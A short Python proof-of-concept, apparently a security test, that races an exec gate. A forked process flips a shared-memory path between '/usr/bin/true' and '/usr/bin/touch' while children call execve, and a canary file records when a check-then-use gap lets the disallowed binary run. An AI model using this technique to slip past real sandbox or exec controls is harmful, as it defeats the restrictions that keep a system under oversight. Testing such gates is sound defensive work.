"""Rewrites execve's path from ANOTHER PROCESS between the exec gate's read and the kernel's copy.

The path lives in a MAP_SHARED page that a forked flipper (its own memory, one thread) keeps
switching between "/usr/bin/true" and "/usr/bin/touch", while single-threaded children call
execve(page, ["x", <canary>]). No thread and no shared address space: only the page is shared.
If the gate reads "true" and the kernel then copies "touch", the canary appears.
Usage: python3 race_shared.py <dir> <canary-name> <seconds>
"""
import ctypes
import mmap
import os
import sys
import time

os.chdir(sys.argv[1])
canary, seconds = sys.argv[2], float(sys.argv[3])
libc = ctypes.CDLL(None, use_errno=True)
TRUE = b"/usr/bin/true\0\0"
TOUCH = b"/usr/bin/touch\0"
page = mmap.mmap(-1, mmap.PAGESIZE, flags=mmap.MAP_SHARED)
page[0:15] = TRUE
addr = ctypes.addressof(ctypes.c_char.from_buffer(page))
end = time.time() + seconds
flipper = os.fork()
if flipper == 0:
    i = 0
    while time.time() < end:
        page[0:15] = TOUCH if i % 2 else TRUE
        i += 1
    os._exit(0)
argv = (ctypes.c_char_p * 3)(b"x", canary.encode(), None)
envp = (ctypes.c_char_p * 1)(None)
tries = 0
while time.time() < end and not os.path.exists(canary):
    tries += 1
    pid = os.fork()
    if pid == 0:
        libc.execve(ctypes.c_char_p(addr), argv, envp)
        os._exit(127)  # denied (EACCES) or the exec failed
    os.waitpid(pid, 0)
os.kill(flipper, 9)
os.waitpid(flipper, 0)
print(f"tries={tries} canary={os.path.exists(canary)}")
